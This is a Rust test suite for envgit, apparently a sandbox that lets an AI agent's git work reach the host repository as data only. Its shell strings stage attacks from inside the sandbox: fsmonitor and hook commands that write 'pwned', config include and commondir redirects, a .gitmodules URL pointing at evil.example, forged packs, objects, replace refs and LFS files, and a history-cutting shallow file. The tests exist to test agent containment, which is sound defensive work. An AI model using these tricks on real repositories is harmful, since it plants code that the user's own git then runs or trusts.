//! The host's git receives data, never code. Inside `envgit run` the project's `.git` is an
//! overlay; after the step only data crosses into the host's `.git` (objects, refs
//! compare-and-swap, the index, logs, allow-listed config keys). Each test runs real git
//! inside the sandbox, then the host's real git, and checks that a marker file outside the
//! project stays unwritten while the agent's ordinary git work arrives.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use support::Env;
use support::git_forge::{PATCH_INDEX, blob, lfs_commit, lfs_path, lying_pack, scratch};

/// A git project with one commit, a user identity and an envgit policy.
fn project() -> Env {
    project_with("files")
}

/// [`project`] with its refs kept the way `ref_format` says (`files`, `reftable`).
fn project_with(ref_format: &str) -> Env {
    project_in(ref_format, "sha1")
}

/// [`project`] with its refs kept the way `ref_format` says and its objects named by
/// `object_format` (`sha1`, `sha256`).
fn project_in(ref_format: &str, object_format: &str) -> Env {
    let env = Env::new();
    env.git(
        &env.project,
        &[
            "init",
            "-q",
            "-b",
            "main",
            &format!("--ref-format={ref_format}"),
            &format!("--object-format={object_format}"),
        ],
    );
    env.git(&env.project, &["config", "user.name", "Host User"]);
    env.git(
        &env.project,
        &["config", "user.email", "host@example.invalid"],
    );
    env.write("a.txt", "a\n");
    env.git(&env.project, &["add", "a.txt"]);
    env.git(&env.project, &["commit", "-q", "-m", "first"]);
    env.envgit(&["init"]).ok();
    env
}

/// `printf` text for a config that runs `echo pwned >> marker` from `git status`.
fn fsmonitor_config(marker: &Path) -> String {
    format!(
        "[core]\\n\\tfsmonitor = echo pwned >> {}\\n",
        marker.display()
    )
}

fn flags(step: &serde_json::Value) -> Vec<String> {
    step["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap().to_string())
        .collect()
}

#[test]
fn the_agents_commits_and_identity_arrive_its_code_does_not() {
    let env = project();
    let marker = env.tmp.path().join("MARKER");
    let m = marker.display();
    // Each try prints how it ended; the commit at the end must work whatever they did.
    let attack = format!(
        "echo b > b.txt && git add b.txt && git commit -q -m 'from the agent' && echo committed; \
         git config user.name Agent; git config core.fsmonitor 'echo pwned >> {m}'; \
         git config core.hooksPath /tmp/hooks; git config include.path ../evil.cfg; \
         git remote add origin https://git.example.invalid/app.git; \
         printf '#!/bin/sh\\necho pwned >> {m}\\n' > .git/hooks/post-commit; echo hook=$?; \
         printf '{cfg}' > .git/config.worktree; git config extensions.worktreeConfig true; \
         printf '{cfg}' > evil.cfg; echo '* filter=evil' > .git/info/attributes; \
         mkdir -p evil && printf '{cfg}' > evil/config && printf '../evil\\n' > .git/commondir",
        cfg = fsmonitor_config(&marker)
    );
    let out = env.envgit(&["run", "sh", "-c", &attack]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("committed"), "{}", out.stdout);
    assert!(
        out.stdout.contains("hook=") && !out.stdout.contains("hook=0"),
        "hooks are read-only inside: {}",
        out.stdout
    );

    // The data arrived: the commit, the branch, the identity and the remote.
    let log = env.git(&env.project, &["log", "--format=%s", "main"]);
    assert_eq!(log, "from the agent\nfirst\n");
    assert_eq!(env.git(&env.project, &["config", "user.name"]), "Agent\n");
    assert_eq!(
        env.git(&env.project, &["remote", "get-url", "origin"]),
        "https://git.example.invalid/app.git\n"
    );
    // The code did not: none of these keys or files is in the host's `.git`.
    let config = std::fs::read_to_string(env.path(".git/config")).unwrap();
    for key in ["fsmonitor", "hooksPath", "include", "worktreeConfig"] {
        assert!(!config.contains(key), "{key} reached the host:\n{config}");
    }
    for p in [
        ".git/commondir",
        ".git/config.worktree",
        ".git/info/attributes",
    ] {
        // (`.git/info` is read-only inside; the others land in the layer and stay there.)
        assert!(!env.path(p).exists(), "{p} reached the host");
    }
    for why in [
        "core.fsmonitor",
        "core.hookspath",
        "include.path",
        ".git/commondir",
    ] {
        assert!(
            out.stderr.contains(why),
            "{why} not reported:\n{}",
            out.stderr
        );
    }
    let step = &env.log_json()[0];
    assert!(flags(step).contains(&"git_dropped".to_string()), "{step}");
    assert!(step.to_string().contains("git.data-only"), "{step}");

    // The host's git, as the user runs it next: nothing of the agent's runs.
    env.git(&env.project, &["status", "--short"]);
    std::fs::write(env.path("a.txt"), "changed on the host\n").unwrap();
    env.git(&env.project, &["commit", "-q", "-am", "host commit"]);
    assert!(!marker.exists(), "the host ran code the agent wrote");
}

#[test]
fn a_repository_made_inside_the_project_keeps_its_data_not_its_code() {
    let env = project();
    let marker = env.tmp.path().join("MARKER");
    let m = marker.display();
    // A nested repository with its own fsmonitor and hook, added to the project as a gitlink
    // (the host's `git status` then looks inside it), and a `.git` pointer file aimed at a
    // directory of the agent's.
    let attack = format!(
        "git init -q -b main vendor/x && cd vendor/x && \
         git config core.fsmonitor 'echo pwned >> {m}' && \
         printf '#!/bin/sh\\necho pwned >> {m}\\n' > .git/hooks/post-checkout && \
         chmod +x .git/hooks/post-checkout && echo v > v.txt && git add v.txt && \
         git -c core.fsmonitor=false -c user.name=a -c user.email=a@a commit -q -m vendored && \
         cd ../.. && git -c core.fsmonitor=false add vendor/x && \
         git -c core.fsmonitor=false commit -q -m 'add vendor/x' && \
         mkdir -p pointer && printf 'gitdir: ../vendor/x/.git\\n' > pointer/.git && echo done"
    );
    let out = env.envgit(&["run", "sh", "-c", &attack]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("done"), "{}", out.stdout);
    // Its config keeps what git set for ordinary work, not the fsmonitor.
    let config = env.read("vendor/x/.git/config");
    assert!(!config.contains("fsmonitor"), "{config}");
    assert!(config.contains("repositoryformatversion"), "{config}");
    assert!(
        out.stderr.contains("vendor/x/.git/config core.fsmonitor"),
        "{}",
        out.stderr
    );
    for p in ["vendor/x/.git/hooks", "pointer/.git"] {
        assert!(
            std::fs::symlink_metadata(env.path(p)).is_err(),
            "{p} stayed: {}",
            out.stderr
        );
        assert!(out.stderr.contains(p), "{p} not reported: {}", out.stderr);
    }
    // Its data stayed: the host's git reads the nested history.
    assert_eq!(
        env.git(&env.path("vendor/x"), &["log", "--format=%s"]),
        "vendored\n"
    );
    // The host's `git status` recurses into the gitlink: nothing of the agent's runs.
    env.git(&env.project, &["status"]);
    env.git(&env.path("vendor/x"), &["checkout", "-q", "-b", "other"]);
    assert!(!marker.exists(), "the host ran code the agent wrote");
    let step = &env.log_json()[0];
    assert!(flags(step).contains(&"git_dropped".to_string()), "{step}");
}

/// Blocks inside the step until the test says go: `READY` is touched, `GO` awaited (bounded).
const WAIT_FOR_GO: &str =
    "touch READY; i=0; while [ ! -e GO ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done";

fn wait_for(path: &Path) {
    let deadline = Instant::now() + Duration::from_secs(120);
    while !path.exists() {
        assert!(
            Instant::now() < deadline,
            "{} never appeared",
            path.display()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_ref_the_user_moved_during_the_step_keeps_the_users_value() {
    let env = project();
    std::fs::write(env.path(".gitignore"), "READY\nGO\n").unwrap();
    let script = format!(
        "{WAIT_FOR_GO}; echo b > b.txt && git add b.txt && git commit -q -m agent && echo committed"
    );
    let child = env
        .cmd(&env.project)
        .args(["run", "sh", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&env.path("READY"));
    // The user commits on the host while the step runs.
    std::fs::write(env.path("a.txt"), "the user's\n").unwrap();
    env.git(&env.project, &["commit", "-q", "-am", "user"]);
    let users = env.git(&env.project, &["rev-parse", "main"]);
    std::fs::write(env.path("GO"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(String::from_utf8_lossy(&out.stdout).contains("committed"));
    assert_eq!(
        env.git(&env.project, &["rev-parse", "main"]),
        users,
        "the user's commit was overwritten: {stderr}"
    );
    assert!(
        stderr.contains("refs/heads/main") && stderr.contains("the host changed it"),
        "{stderr}"
    );
}

#[test]
fn after_a_kill_9_the_next_command_imports_the_steps_git_data() {
    let env = project();
    let script = format!(
        "echo b > b.txt && git add b.txt && git commit -q -m 'before the kill' && \
         git config core.fsmonitor 'echo pwned' && {WAIT_FOR_GO}"
    );
    let mut child = env
        .cmd(&env.project)
        .args(["run", "sh", "-c", &script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&env.path("READY"));
    // Nothing reached the host's `.git` while the step ran.
    assert_eq!(
        env.git(&env.project, &["log", "--format=%s", "main"]),
        "first\n"
    );
    child.kill().unwrap();
    child.wait().unwrap();
    // Whether or not the sandbox outlived envgit, let it end.
    std::fs::write(env.path("GO"), "").unwrap();
    let log = env.envgit(&["log", "--json"]);
    assert_eq!(log.code, 0, "{}", log.stderr);
    assert_eq!(
        env.git(&env.project, &["log", "--format=%s", "main"]),
        "before the kill\nfirst\n",
        "{}",
        log.stderr
    );
    assert!(log.stderr.contains("core.fsmonitor"), "{}", log.stderr);
    let config = std::fs::read_to_string(env.path(".git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    let layers = env.store_dir().join("gitlayer");
    let left: Vec<_> = std::fs::read_dir(&layers)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "layers left behind: {left:?}");
}

/// A git server stand-in on loopback that asks for Basic auth (401) and logs the
/// `Authorization` header each request brings to `log`, one per line. Prints its port.
const AUTH_LOGGER: &str = r#"
import http.server, sys
LOG = sys.argv[1]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        auth = self.headers.get("Authorization")
        with open(LOG, "a") as f:
            f.write((auth or "-") + "\n")
        if not auth:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git"')
        else:
            self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

#[test]
fn a_token_in_the_repositorys_config_stays_outside_and_reaches_only_its_host() {
    use std::io::BufRead;
    let env = project();
    let log = env.tmp.path().join("auth.log");
    let mut server = Command::new("python3")
        .args(["-c", AUTH_LOGGER])
        .arg(&log)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port: u16 = line.trim().parse().unwrap();
    let token = "ghp_canaryTOKEN0123456789";
    let url = format!("http://bot:{token}@127.0.0.1:{port}/app.git");
    env.git(&env.project, &["remote", "add", "origin", &url]);
    env.git(
        &env.project,
        &[
            "config",
            &format!("http.http://127.0.0.1:{port}/.extraheader"),
            "X-Canary: basic extraheaderCANARY42",
        ],
    );
    let policy = env.read("envgit.yaml").replacen(
        "# network:\n#   allow:",
        &format!("network:\n  allow: [\"127.0.0.1:{port}\"]\n#   allow:"),
        1,
    );
    std::fs::write(env.path("envgit.yaml"), policy).unwrap();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "cat .git/config; \
         GIT_TERMINAL_PROMPT=0 git fetch -q origin; echo fetched",
    ]);
    server.kill().ok();
    server.wait().ok();
    let out = out.ran_to("fetched");
    // Inside: placeholders only.
    assert!(!out.stdout.contains(token), "{}", out.stdout);
    assert!(!out.stdout.contains("CANARY42"), "{}", out.stdout);
    assert!(out.stdout.contains("envgit-placeholder-"), "{}", out.stdout);
    // At the server: the real credential, put back by the gate.
    let seen = std::fs::read_to_string(&log).unwrap_or_default();
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("bot:{token}"));
    assert!(
        seen.contains(&format!("Basic {basic}")),
        "the token did not reach its host: {seen}\n{}",
        out.stderr
    );
    // The host's own config is unchanged.
    assert_eq!(
        env.git(&env.project, &["remote", "get-url", "origin"]),
        format!("{url}\n")
    );
}

/// As root on another user's repository, what the import writes into their `.git` is theirs:
/// a root-owned object directory would stop their own git from writing there.
#[test]
fn imported_git_data_belongs_to_the_repositorys_owner() {
    use std::os::unix::fs::MetadataExt;
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: needs root to own a project by another uid");
        return;
    }
    let env = project();
    let chown = Command::new("chown")
        .args(["-R", "1001:1001"])
        .arg(&env.project)
        .status()
        .unwrap();
    assert!(chown.success());
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "echo b > b.txt && git add b.txt && git -c user.name=a -c user.email=a@a commit -q -m owned && \
         git gc -q && echo committed",
    ]);
    assert!(
        out.stdout.contains("committed"),
        "{}{}",
        out.stdout,
        out.stderr
    );
    // The loose objects `git gc` packed, and their emptied directories, are no news.
    assert!(!out.stderr.contains(".git/objects"), "{}", out.stderr);
    let objects = env.path(".git/objects");
    let mut checked = 0;
    for dir in std::fs::read_dir(&objects).unwrap().flatten() {
        for f in std::fs::read_dir(dir.path()).unwrap().flatten() {
            let m = f.metadata().unwrap();
            assert_eq!((m.uid(), m.gid()), (1001, 1001), "{}", f.path().display());
            checked += 1;
        }
        let m = dir.metadata().unwrap();
        assert_eq!(m.uid(), 1001, "{}", dir.path().display());
    }
    assert!(checked > 0);
    // The pack `git gc` wrote inside, indexed again on the host by its `git index-pack`.
    let packs = std::fs::read_dir(objects.join("pack"))
        .unwrap()
        .flatten()
        .filter(|f| f.file_name().to_string_lossy().ends_with(".idx"))
        .count();
    assert!(
        packs > 0,
        "the step's pack was not imported: {}",
        out.stderr
    );
    assert_eq!(
        env.git(
            &env.project,
            &["-c", "safe.directory=*", "log", "-1", "--format=%s"]
        ),
        "owned\n"
    );
    // `git gc` packed the branch's ref.
    let head = std::fs::metadata(env.path(".git/refs/heads/main"))
        .or_else(|_| std::fs::metadata(env.path(".git/packed-refs")))
        .unwrap();
    assert_eq!(head.uid(), 1001);
}

/// A git process the step's end killed leaves its lock files, and a detached `gc --auto` its
/// `gc.pid` and `gc.log`; the host's own git must not trip over them (nor refuse to gc for a
/// day), the name git writes into `gc.pid` is the host's own inside too, and such leftovers
/// are git's own bookkeeping, not something the step tried: no warning, no `git-dropped`.
#[test]
fn locks_left_inside_never_block_the_hosts_git_and_the_hostname_is_the_hosts() {
    let env = project();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "touch .git/index.lock .git/refs/heads/main.lock && hostname && \
         echo \"4242 $(hostname)\" > .git/gc.pid && echo 'warning: gc failed' > .git/gc.log && \
         echo locked",
    ]);
    assert!(
        out.stdout.contains("locked"),
        "{}{}",
        out.stdout,
        out.stderr
    );
    let host = rustix::system::uname();
    let host = host.nodename().to_string_lossy();
    assert_eq!(out.stdout.lines().next(), Some(&*host), "{}", out.stdout);
    for p in [
        ".git/index.lock",
        ".git/refs/heads/main.lock",
        ".git/gc.pid",
        ".git/gc.log",
    ] {
        assert!(!env.path(p).exists(), "{p} reached the host");
    }
    assert!(!out.stderr.contains("not imported"), "{}", out.stderr);
    let step = env.log_json().first().unwrap().clone();
    assert!(!flags(&step).contains(&"git_dropped".to_string()), "{step}");
    assert!(step["refusals"].as_array().unwrap().is_empty(), "{step}");
    std::fs::write(env.path("a.txt"), "on the host\n").unwrap();
    env.git(&env.project, &["commit", "-q", "-am", "host"]);
}

/// A change to `.gitmodules` (where the host's `git submodule update` fetches from) is said
/// on the step.
#[test]
fn a_changed_gitmodules_is_said_on_the_step() {
    let env = project();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = https://evil.example/x.git\\n' > .gitmodules && echo wrote",
    ]);
    assert!(out.stdout.contains("wrote"), "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains(".gitmodules changed"), "{}", out.stderr);
    let step = &env.log_json()[0];
    assert!(step.to_string().contains(".gitmodules changed"), "{step}");
}

/// `.git/index`'s modification time as `stat -c %.9Y` prints it.
fn index_time(env: &Env) -> String {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(env.path(".git/index")).unwrap();
    format!("{}.{:09}", m.mtime(), m.mtime_nsec())
}

/// Git's racy-timestamp rule: while the index is no newer than a file it lists, every `git
/// status` reads that file again and rewrites the index to end it. Rewritten inside with the
/// same bytes, the index must reach the host with its new time; kept at the old one, every
/// later `git status` in a step pays the re-reads again (3× slower on a 3,200-file project).
#[test]
fn an_index_git_refreshed_inside_reaches_the_host_with_its_new_time() {
    use std::os::unix::fs::MetadataExt;
    let env = project();
    // Racy: the index has the listed file's own time.
    let touched = Command::new("touch")
        .arg("-r")
        .arg(env.path("a.txt"))
        .arg(env.path(".git/index"))
        .status()
        .unwrap();
    assert!(touched.success());
    let a = std::fs::metadata(env.path("a.txt")).unwrap();
    let racy = format!("{}.{:09}", a.mtime(), a.mtime_nsec());
    assert_eq!(index_time(&env), racy);
    let out = env.envgit(&["run", "git", "status", "--short"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let after = std::fs::metadata(env.path(".git/index")).unwrap();
    assert!(
        (after.mtime(), after.mtime_nsec()) > (a.mtime(), a.mtime_nsec()),
        "the host's index still has a.txt's time {racy}: git will re-read a.txt at every status"
    );
}

/// An index the step changed reaches the host with the time git gave it inside, not the
/// import's: a later time would make git trust the stat data of a file edited in the same
/// clock tick as the `git add` that recorded it.
#[test]
fn an_index_the_step_changed_keeps_the_time_git_wrote_it_at() {
    let env = project();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "echo b > b.txt && git add b.txt && stat -c %.9Y .git/index > index-time",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert_eq!(
        env.git(&env.project, &["diff", "--cached", "--name-only"]),
        "b.txt\n"
    );
    let inside = std::fs::read_to_string(env.path("index-time")).unwrap();
    assert_eq!(index_time(&env), inside.trim());
}

/// With `core.splitIndex` git keeps most of the index in `.git/sharedindex.<hash>`, named by
/// its content like an object, and the index names it: a step's `git add` writes a new one
/// (forced here: `maxPercentChange=0`) and expires old ones. Left out of the import, the
/// host's index named a file the host lacked and every git command on the host failed
/// ("index file open failed"); the expiry is git's housekeeping, not news.
#[test]
fn a_split_index_arrives_whole() {
    let env = project();
    env.git(&env.project, &["config", "core.splitIndex", "true"]);
    env.git(&env.project, &["update-index", "--split-index"]);
    let script = "echo b > b.txt && git -c splitIndex.maxPercentChange=0 \
                  -c splitIndex.sharedIndexExpire=now add b.txt && \
                  echo shared inside: $(ls .git | grep -c '^sharedindex')";
    let out = env.envgit(&["run", "sh", "-c", script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("shared inside: 1"),
        "git did not replace its shared index: {}",
        out.stdout
    );
    assert!(!out.stderr.contains("sharedindex"), "{}", out.stderr);
    assert_eq!(
        env.git(&env.project, &["status", "--short", "--untracked-files=no"]),
        "A  b.txt\n"
    );
}

/// A reftable repository (`git init --ref-format=reftable`) keeps its refs in
/// `.git/reftable/`: new tables under new names, listed by `tables.list`, old ones compacted
/// away. The agent's commit must arrive as in a repository of loose refs; on main the tables
/// were "not a git data file" and the commit stayed inside.
#[test]
fn a_commit_in_a_reftable_repository_arrives() {
    let env = project_with("reftable");
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "echo b > b.txt && git add b.txt && git commit -q -m agent && \
         git commit -q --allow-empty -m again && git pack-refs && echo committed",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("committed"), "{}", out.stdout);
    assert!(!out.stderr.contains("reftable"), "{}", out.stderr);
    assert_eq!(
        env.git(&env.project, &["log", "--format=%s", "main"]),
        "again\nagent\nfirst\n"
    );
    assert_eq!(
        env.git(&env.project, &["status", "--short", "--untracked-files=no"]),
        ""
    );

    // A list naming anything but tables (git opens each beneath `reftable/`) stays out.
    let list = env.path(".git/reftable/tables.list");
    let before = std::fs::read(&list).unwrap();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "printf '../../../evil.ref\\n' > .git/reftable/tables.list",
    ]);
    assert!(
        out.stderr
            .contains("tables.list names a file that is not a reftable table"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read(&list).unwrap(), before);
    assert_eq!(
        env.git(&env.project, &["log", "--format=%s", "-1", "main"]),
        "again\n"
    );
}

/// Git trusts a pack's index when it reads an object: a pack whose `.idx` gives the id of a
/// file the host has (`build.sh`) to other content made the host's `git checkout` write that
/// content, under a commit the user trusts, where they run it. The step's index is never
/// taken: the host's `git index-pack` names the pack's objects by what they are.
#[test]
fn a_pack_whose_index_lies_about_an_object_is_not_believed() {
    let env = project();
    env.write("build.sh", "echo hello\n");
    env.git(&env.project, &["add", "build.sh"]);
    env.git(&env.project, &["commit", "-q", "-m", "build"]);
    env.git(&env.project, &["gc", "-q"]);
    // An ordinary repository's packs are older than a step's.
    let aged = Command::new("sh")
        .args(["-c", "touch -d '1 hour ago' .git/objects/pack/*"])
        .current_dir(&env.project)
        .status()
        .unwrap();
    assert!(aged.success());
    let trusted = env.git(&env.project, &["rev-parse", "HEAD:build.sh"]);
    let trusted = trusted.trim();

    let evil = lying_pack(&env, trusted);

    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "cp forged/pack-* .git/objects/pack/ && \
         echo planted: $(git cat-file -p $(git rev-parse HEAD:build.sh))",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("planted: echo PWNED"), "{}", out.stdout);
    std::fs::remove_file(env.path("build.sh")).unwrap();
    env.git(&env.project, &["checkout", "--", "build.sh"]);
    assert_eq!(
        std::fs::read_to_string(env.path("build.sh")).unwrap(),
        "echo hello\n",
        "the host's checkout wrote the step's content for a trusted id"
    );
    // The pack's one object arrived for what it is.
    assert_eq!(
        env.git(&env.project, &["cat-file", "-p", &evil]),
        "echo PWNED\n"
    );
}

/// A loose object is named by its content too: one whose content hashes to another id would
/// stand in for that object on the host (say one the user fetches later, which git then
/// never downloads). It is not imported, and the refusal says why.
#[test]
fn a_loose_object_under_a_name_not_its_own_is_not_imported() {
    let env = project();
    let other = scratch(&env);
    let evil = blob(&env, &other, "echo PWNED\n");
    let claimed = blob(&env, &other, "echo the real one\n");
    std::fs::write(
        env.path("forged-object"),
        std::fs::read(other.join(format!(".git/objects/{}/{}", &evil[..2], &evil[2..]))).unwrap(),
    )
    .unwrap();
    let script = format!(
        "mkdir -p .git/objects/{dir} && cp forged-object .git/objects/{dir}/{rest}",
        dir = &claimed[..2],
        rest = &claimed[2..]
    );
    let out = env.envgit(&["run", "sh", "-c", &script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("does not hash to its name"),
        "{}",
        out.stderr
    );
    let has = Command::new("git")
        .args(["cat-file", "-e", &claimed])
        .current_dir(&env.project)
        .status()
        .unwrap();
    assert!(
        !has.success(),
        "the host took the step's object for {claimed}"
    );
}

/// `git replace X Y` makes git read Y wherever X is asked for, `git checkout` included: a
/// replace ref from a step would make the host write the step's content for a file the user
/// trusts. None arrives, whether it is a loose ref, packed into `packed-refs`, or in a
/// reftable; the step's other refs do.
#[test]
fn a_replace_ref_from_the_step_never_reaches_the_host() {
    for (format, pack) in [
        ("files", ""),
        ("files", " && git pack-refs --all"),
        ("reftable", ""),
    ] {
        let env = project_with(format);
        env.write("build.sh", "echo hello\n");
        env.git(&env.project, &["add", "build.sh"]);
        env.git(&env.project, &["commit", "-q", "-m", "build"]);
        let script = format!(
            "X=$(git rev-parse HEAD:build.sh) && Y=$(echo 'echo PWNED' | git hash-object -w --stdin) && \
             git replace $X $Y && git branch agent{pack} && echo inside: $(git cat-file -p $X)"
        );
        let out = env.envgit(&["run", "sh", "-c", &script]);
        let what = format!("{format}{pack}: {}{}", out.stdout, out.stderr);
        assert_eq!(out.code, 0, "{what}");
        assert!(out.stdout.contains("inside: echo PWNED"), "{what}");
        assert!(out.stderr.contains("replace ref"), "{what}");
        std::fs::remove_file(env.path("build.sh")).unwrap();
        env.git(&env.project, &["checkout", "--", "build.sh"]);
        assert_eq!(
            std::fs::read_to_string(env.path("build.sh")).unwrap(),
            "echo hello\n",
            "{what}"
        );
        assert_eq!(env.git(&env.project, &["replace", "-l"]), "", "{what}");
        if pack.is_empty() && format == "files" {
            // The loose branch ref arrived beside the refused replace ref.
            env.git(&env.project, &["rev-parse", "--verify", "agent"]);
        }
    }
}

/// A pack the host's `git index-pack` refuses (here, not a pack at all) is not imported, and
/// neither are the step's refs, which may name what it held: the host's branch stays where it
/// was instead of naming a commit the host lacks.
#[test]
fn refs_stay_out_when_an_object_of_the_step_is_refused() {
    let env = project();
    let before = env.git(&env.project, &["rev-parse", "main"]);
    let name = "0a".repeat(20);
    let script = format!(
        "git commit -q --allow-empty -m agent && \
         head -c 4096 /dev/urandom > .git/objects/pack/pack-{name}.pack && echo moved"
    );
    let out = env.envgit(&["run", "sh", "-c", &script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("moved"), "{}", out.stdout);
    assert!(out.stderr.contains("index-pack"), "{}", out.stderr);
    assert!(out.stderr.contains("refs/heads/main"), "{}", out.stderr);
    assert_eq!(env.git(&env.project, &["rev-parse", "main"]), before);
    env.git(&env.project, &["fsck", "--no-dangling"]);
}

/// `.git/shallow` tells git a commit's parents are not there: one naming a commit the host has
/// hides the history behind it from `git log`, and the host's `git gc` would then delete that
/// history as unreachable. A step may name only commits it brought (`git fetch --deepen`
/// moves the boundary onto fetched commits, and that arrives).
#[test]
fn a_step_cannot_cut_the_hosts_history_with_a_shallow_file() {
    let env = project();
    env.write("b.txt", "b\n");
    env.git(&env.project, &["add", "b.txt"]);
    env.git(&env.project, &["commit", "-q", "-m", "second"]);
    env.envgit(&["record"]).ok();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "git rev-parse HEAD > .git/shallow && echo inside: $(git log --oneline | wc -l)",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("inside: 1"), "{}", out.stdout);
    assert!(out.stderr.contains("shallow"), "{}", out.stderr);
    assert!(!env.path(".git/shallow").exists());
    assert_eq!(
        env.git(&env.project, &["log", "--oneline"]).lines().count(),
        2
    );
}

/// The other side of the rule above: a shallow clone deepened inside a step keeps the new
/// boundary and the history it fetched.
#[test]
fn a_shallow_clone_deepened_in_a_step_arrives() {
    let env = Env::new();
    let upstream = env.path("upstream");
    std::fs::create_dir_all(&upstream).unwrap();
    env.git(&upstream, &["init", "-q", "-b", "main"]);
    for n in 1..=3 {
        std::fs::write(upstream.join("n.txt"), format!("{n}\n")).unwrap();
        env.git(&upstream, &["add", "n.txt"]);
        env.git(&upstream, &["commit", "-q", "-m", &format!("c{n}")]);
    }
    let url = format!("file://{}", upstream.display());
    let clone = env.tmp.path().join("clone");
    env.git(
        env.tmp.path(),
        &[
            "clone",
            "-q",
            "--no-checkout",
            "--depth",
            "1",
            &url,
            "clone",
        ],
    );
    std::fs::rename(clone.join(".git"), env.path(".git")).unwrap();
    env.git(&env.project, &["reset", "-q", "--hard"]);
    env.envgit(&["init"]).ok();
    assert_eq!(
        env.git(&env.project, &["log", "--oneline"]).lines().count(),
        1
    );
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "git fetch -q --deepen=1 && echo deepened",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("deepened"), "{}", out.stdout);
    assert_eq!(
        env.git(&env.project, &["log", "--oneline"]).lines().count(),
        2,
        "{}",
        out.stderr
    );
    env.git(&env.project, &["fsck", "--no-dangling"]);
}

/// Git LFS keeps each large file under its SHA-256 in `.git/lfs/objects`, and its smudge filter
/// writes that file's bytes for a pointer the user trusts without checking them: a step that
/// rewrote one made the host's `git checkout` write the step's content. An LFS object arrives
/// only when the host lacks it and its content hashes to its name.
#[test]
fn a_git_lfs_object_is_taken_only_for_what_it_is() {
    let env = project();
    let oid = lfs_commit(&env, &env.project, "a.bin", "real content\n");
    let rel = lfs_path(&oid);
    // The same size as the real content: git-lfs checks that much.
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        &format!("printf 'echo PWNED!!\\n' > .git/{rel} && echo planted"),
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("planted"), "{}", out.stdout);
    assert!(out.stderr.contains(&rel), "{}", out.stderr);
    std::fs::remove_file(env.path("a.bin")).unwrap();
    env.git(&env.project, &["checkout", "--", "a.bin"]);
    assert_eq!(env.read("a.bin"), "real content\n");

    // Under a name not its own: not taken. Under its own: taken.
    let other = format!(
        "{}{}",
        &oid[..63],
        if oid.ends_with('0') { "1" } else { "0" }
    );
    let script = format!(
        "mkdir -p .git/$(dirname {o}) && printf 'x' > .git/{o} && \
         git lfs track b.bin >/dev/null && printf 'more\\n' > b.bin && git add b.bin && echo added",
        o = lfs_path(&other)
    );
    let out = env.envgit(&["run", "sh", "-c", &script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("added"), "{}{}", out.stdout, out.stderr);
    assert!(!env.path(&format!(".git/{}", lfs_path(&other))).exists());
    let b = env.git(&env.project, &["lfs", "ls-files", "-l"]);
    let b_oid = b
        .lines()
        .find(|l| l.ends_with("b.bin"))
        .and_then(|l| l.split_whitespace().next())
        .unwrap_or_else(|| panic!("b.bin is not in the index as an LFS file: {b}"));
    assert_eq!(
        std::fs::read_to_string(env.path(&format!(".git/{}", lfs_path(b_oid)))).unwrap(),
        "more\n"
    );
}

/// `git gc` inside a step is ordinary work: it packs the host's loose objects (which stay on
/// the host until its own git retires them), updates `info/refs`, and nothing of it is a
